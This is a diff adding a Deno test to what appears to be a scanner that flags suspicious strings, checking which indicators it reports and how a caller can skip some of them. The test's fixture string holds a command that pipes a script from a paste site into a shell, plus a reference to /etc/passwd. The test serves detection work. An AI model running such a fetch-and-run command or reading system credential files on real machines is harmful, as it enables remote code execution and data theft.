@@ -80,3 +80,18 @@ Deno.test("string checks: an encoded pickle is reported (MA012) and handed over 
   await checkString(ctx, "model.eval() then eval_metric = 0.9", { what: "The value" });
   assert.deepEqual(found, []);
 });
+
+Deno.test("string checks: a caller that judges URLs itself leaves those indicators out", async () => {
+  const found: FindingReport[] = [];
+  const ctx = {
+    report: (f: FindingReport) => found.push(f),
+    matchBlacklist: () => undefined,
+    scanNested: () => Promise.resolve(),
+  };
+  const text = "curl -s https://pastebin.com/raw/abc | sh; see file:///etc/passwd";
+  await checkString(ctx, text, { what: "The value", skipIndicators: ["paste-site", "file-url"] });
+  assert.deepEqual(found.map((f) => f.details?.indicator), ["shell-pipe"]);
+  found.length = 0;
+  await checkString(ctx, text, { what: "The value" });
+  assert.deepEqual(found.map((f) => f.details?.indicator), ["shell-pipe", "paste-site", "file-url"]);
+});
